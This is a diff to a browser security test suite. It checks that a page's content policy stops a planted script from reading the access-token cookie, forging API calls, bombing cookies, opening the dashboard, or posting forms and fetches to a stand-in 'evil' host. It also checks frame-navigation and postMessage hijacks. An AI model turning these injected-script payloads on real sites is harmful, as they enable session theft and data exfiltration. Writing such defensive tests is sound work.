@@ -21,7 +21,6 @@ const ATTACKS = `
   const attempt = async (work) => { try { return Boolean(await work()) } catch { return false } }
   const token = () => decodeURIComponent(document.cookie.match(/accessToken=([^;]+)/)[1])
   const call = (method, path, body) => fetch(path, { method, body, headers: { authorization: 'Bearer ' + token(), 'content-type': 'application/json' } })
-  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
   window.attacks = (async () => ({
     'reads the session': await attempt(() => document.cookie.includes('accessToken')),
     'reads the storage': await attempt(() => localStorage.length >= 0),
@@ -29,19 +28,18 @@ const ATTACKS = `
     'forges a call': await attempt(async () => (await call('POST', '/api/report/v1/reports', '{"name":"Forged"}')).status === 201),
     'installs a worker': await attempt(() => navigator.serviceWorker.register('/bubbles/worker.js')),
     'tosses a cookie': await attempt(() => { document.cookie = 'tossed=1; path=/; domain=bubbles.localhost'; return document.cookie.includes('tossed') }),
-    'bombs with cookies': await attempt(() => { for (let n = 0; n < 20; n++) document.cookie = 'bomb' + n + '=' + 'x'.repeat(3000) + '; path=/dashboard; max-age=60'; for (let n = 0; n < 3; n++) document.cookie = 'seen' + n + '=' + 'x'.repeat(3000) + '; max-age=60'; return document.cookie.length > 6000 }),
     'looks into the dashboard': await attempt(async () => {
       const other = open('/dashboard/reports')
-      await wait(1500)
+      await new Promise((resolve) => { window.look = resolve })
       return other.document.title.length > 0
     }),
+    'bombs with cookies': await attempt(() => { for (let n = 0; n < 20; n++) document.cookie = 'bomb' + n + '=' + 'x'.repeat(3000) + '; path=/dashboard; max-age=60'; for (let n = 0; n < 3; n++) document.cookie = 'seen' + n + '=' + 'x'.repeat(3000) + '; max-age=60'; return document.cookie.length > 6000 }),
     'sends a form elsewhere': await attempt(async () => {
       const frame = document.body.appendChild(document.createElement('iframe'))
       frame.name = 'taken'
       const form = document.body.appendChild(document.createElement('form'))
       Object.assign(form, { action: evil + '/phished', method: 'post', target: 'taken' })
       form.submit()
-      await wait(500)
       return true
     }),
     'asks elsewhere': await attempt(() => fetch(evil + '/fetched', { mode: 'no-cors' })),
@@ -95,8 +93,18 @@ async function attack(
   await page.getByRole('heading', { name: 'Reports', level: 1 }).waitFor()
   const address = server.at('acme', PAGE)
   await plant(context, address, ATTACKS, policy)
+  const opened = context.waitForEvent('page')
+  const refused: string[] = []
+  page.on('console', (message) => refused.push(message.text()))
   await page.goto(address)
-  return { outcome: (await page.evaluate('window.attacks')) as Record<string, boolean>, page, asked }
+  // The window it opened is looked into when there is something to see.
+  await (await opened).getByRole('heading', { name: 'Reports', level: 1 }).waitFor()
+  await page.evaluate('look()')
+  const outcome = (await page.evaluate('window.attacks')) as Record<string, boolean>
+  // The form goes its own way, of which the script hears nothing.
+  const isSettled = () => asked.includes('/phished') || refused.some((text) => /\bform\b/.test(text))
+  await expect.poll(isSettled).toBe(true)
+  return { outcome, page, asked }
 }
 
 test('a script that slipped into a page reaches nothing; without the policy it would reach all', async ({
@@ -139,7 +147,11 @@ test('a framed page cannot lead the page around it away, and its messages move n
     addEventListener('click', () => {
       for (const message of [{ type: 'navigate', to: '/' }, { redirect_url: 'https://evil.example' }, 'reload'])
         parent.postMessage(message, '*')
-      top.location = '${server.at('acme', '/bubbles/no-such-report')}'
+      try {
+        top.location = '${server.at('acme', '/bubbles/no-such-report')}'
+      } catch (error) {
+        document.body.dataset.refused = error.name
+      }
     })`
   try {
     for (const policy of ['taken away', 'kept'] as const) {
@@ -150,7 +162,10 @@ test('a framed page cannot lead the page around it away, and its messages move n
       await page.frameLocator('iframe').locator('h1').click()
       if (policy === 'taken away') await page.waitForURL(/no-such-report/)
       else {
-        await page.waitForTimeout(1_000)
+        await expect(page.frameLocator('iframe').locator('body')).toHaveAttribute(
+          'data-refused',
+          'SecurityError',
+        )
         expect(page.url()).toBe(around)
       }
       await context.close()
@@ -163,22 +178,22 @@ test('a framed page cannot lead the page around it away, and its messages move n
     await plant(
       context,
       address,
-      `window.met = (async () => {
-        const other = open('${server.at('acme', '/dashboard/reports')}')
-        await new Promise((resolve) => setTimeout(resolve, 3000))
+      `const other = open('${server.at('acme', '/dashboard/reports')}')
+      window.meet = () => {
         let seen = false
         try { seen = other.document.title !== undefined } catch {}
         for (const message of [{ type: 'navigate', to: '/dashboard/user/account' }, { type: 'signOut' }, { token: 'x' }])
           other?.postMessage(message, '*')
         return { opener: window.opener !== null, seen }
-      })()`,
+      }`,
       'kept',
     )
     const reader = await context.newPage()
     const opened = context.waitForEvent('page')
     await reader.goto(address)
     const other = await opened
-    expect(await reader.evaluate('window.met')).toEqual({ opener: false, seen: false })
+    await other.getByRole('heading', { name: 'Reports', level: 1 }).waitFor()
+    expect(await reader.evaluate('meet()')).toEqual({ opener: false, seen: false })
     await expect(other.getByRole('heading', { name: 'Reports', level: 1 })).toBeVisible()
     await expect(other).toHaveURL(/\/dashboard\/reports/)
     await context.close()
